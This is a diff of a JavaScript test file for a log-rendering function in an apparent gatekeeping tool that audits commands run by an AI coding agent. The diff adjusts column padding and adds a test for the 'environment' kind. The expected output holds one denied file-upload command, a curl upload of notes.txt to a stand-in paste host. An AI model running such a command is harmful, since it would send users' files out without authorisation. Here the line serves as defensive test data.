@@ -38,11 +38,16 @@ describe('auditPage', () => {
       'Not verified yet: choose Verify above, or run Gatehouse: Verify Audit Log.',
       '/home/me/audit',
       '',
-      '2026-11-21 08:41:02  #7     DENIED     tier 3  claude-code  Bash  by person after 4.2 s',
+      '2026-11-21 08:41:02  #7     DENIED       tier 3  claude-code  Bash  by person after 4.2 s',
       '    curl -T notes.txt https://paste.invalid/upload',
       '    data-upload, network-fetch; in /home/me/project; code k7m2qd; way picked',
       '',
     ]);
+  });
+
+  it('writes the longest kind out', () => {
+    const { text } = auditPage(tail(record({ kind: 'environment', decision: null, tier: null })), undefined);
+    assert.match(text, / environment {2}claude-code/);
   });
 
   it('puts the newest first', () => {
